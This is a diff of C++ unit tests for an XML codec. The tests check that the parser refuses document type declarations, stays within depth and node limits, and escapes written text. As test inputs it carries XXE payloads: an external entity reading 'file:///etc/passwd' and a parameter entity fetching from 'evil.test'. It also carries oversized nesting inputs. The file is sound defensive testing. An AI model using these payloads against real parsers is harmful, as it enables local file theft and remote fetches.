@@ -9,10 +9,10 @@
 namespace autodiscover::codec {
 namespace {
 
-const XmlLimits kLimits = XmlLimits::From(Policy());
+XmlLimits Limits() { return XmlLimits::From(Policy()); }
 
 Result<XmlElement> Read(std::string_view bytes) {
-  return ReadXml(bytes, kLimits);
+  return ReadXml(bytes, Limits());
 }
 
 std::string Utf16(std::string_view ascii, bool big_endian, bool mark) {
@@ -71,17 +71,19 @@ TEST(ReadXml, GivesUtf8WhateverComes) {
   EXPECT_EQ(Read("<a>J\xF6rg</a>")->text, "J\xEF\xBF\xBDrg");
 }
 
+bool IsRefused(std::string_view text) { return !Read(text).has_value(); }
+
 // Fails if a document type gets through, whatever is in it (SEC-01).
 TEST(ReadXml, RefusesDocumentTypes) {
   for (const char* dtd :
        {"<!DOCTYPE a>", "<!DOCTYPE a SYSTEM 'file:///etc/passwd'>",
         "<!DOCTYPE a [<!ENTITY b 'c'>]>",
-        "<!DOCTYPE a [<!ENTITY % p SYSTEM "
-        "'http://evil.test/'> %p;]>"}) {
-    EXPECT_FALSE(Read(StrCat(dtd, "<a>&b;</a>"))) << dtd;
-    EXPECT_FALSE(Read(StrCat("<?xml version='1.0'?>\n", dtd, "<a/>"))) << dtd;
-    EXPECT_FALSE(Read(StrCat("<a>", dtd, "</a>"))) << dtd;
-    EXPECT_FALSE(Read(StrCat("<a/>", dtd))) << dtd;
+        "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.test/'> %p;]>"}) {
+    const bool refused =
+        IsRefused(StrCat(dtd, "<a>&b;</a>")) &&
+        IsRefused(StrCat("<?xml version='1.0'?>\n", dtd, "<a/>")) &&
+        IsRefused(StrCat("<a>", dtd, "</a>")) && IsRefused(StrCat("<a/>", dtd));
+    EXPECT_TRUE(refused) << dtd;
   }
 }
 
@@ -94,41 +96,34 @@ TEST(ReadXml, RefusesWhatIsBroken) {
   EXPECT_FALSE(Read(std::string_view("<a/>\0<b/>", 9)));
 }
 
+std::string Repeated(std::string_view text, int times) {
+  std::string repeated;
+  for (int i = 0; i < times; ++i) {
+    repeated.append(text);
+  }
+  return repeated;
+}
+
 TEST(ReadXml, KeepsItsBounds) {
-  std::string deep;
-  for (int i = 0; i < 65; ++i) {
-    deep.append("<a>");
-  }
-  std::string shallow = deep.substr(3);
-  for (int i = 0; i < 65; ++i) {
-    deep.append("</a>");
-    shallow.append(i > 0 ? "</a>" : "");
-  }
-  EXPECT_FALSE(Read(deep));
-  EXPECT_TRUE(Read(shallow));
-
-  std::string many = "<a>";
-  for (int i = 0; i < 20'000; ++i) {
-    many.append("<b/>");
-  }
-  EXPECT_FALSE(Read(many + "</a>"));
-
-  std::string attributes = "<a";
-  for (int i = 0; i < 20'000; ++i) {
-    attributes.append(StrCat(" b", i, "=''"));
-  }
-  EXPECT_FALSE(Read(attributes + "/>"));
-  EXPECT_FALSE(
-      ReadXml("<aaaa/>", {.bytes_max = 6, .depth_max = 9, .nodes_max = 9}));
+  EXPECT_TRUE(Read(Repeated("<a>", 64) + Repeated("</a>", 64)));
+  EXPECT_FALSE(Read(Repeated("<a>", 65) + Repeated("</a>", 65)));
+  EXPECT_TRUE(Read("<a>" + Repeated("<b/>", 19'999) + "</a>"));
+  EXPECT_FALSE(Read("<a>" + Repeated("<b/>", 20'000) + "</a>"));
+  EXPECT_FALSE(Read("<a" + Repeated(" b=''", 20'000) + "/>"));
+  const XmlLimits small = {.bytes_max = 6, .depth_max = 9, .nodes_max = 9};
+  EXPECT_TRUE(ReadXml("<aaa/>", small));
+  EXPECT_FALSE(ReadXml("<aaaa/>", small));
 }
 
 // Fails if text is pasted into markup (IN-06).
-TEST(WriteXml, EscapesText) {
+TEST(XmlWriter, EscapesText) {
   const std::string nasty = "a&b'<x>\"@corp.test]]>";
-  const std::string written =
-      WriteXml({.name = "a",
-                .attributes = {{"k", nasty}},
-                .children = {{.name = "b", .text = nasty}, {.name = "c"}}});
+  XmlWriter writer;
+  writer.Open("a");
+  writer.Attribute("k", nasty);
+  writer.Leaf("b", nasty);
+  writer.Leaf("c", "");
+  const std::string written = writer.Finish();
   EXPECT_TRUE(written.starts_with("<?xml version=\"1.0\" encoding=\"utf-8\"?>"))
       << written;
   const Result<XmlElement> root = Read(written);
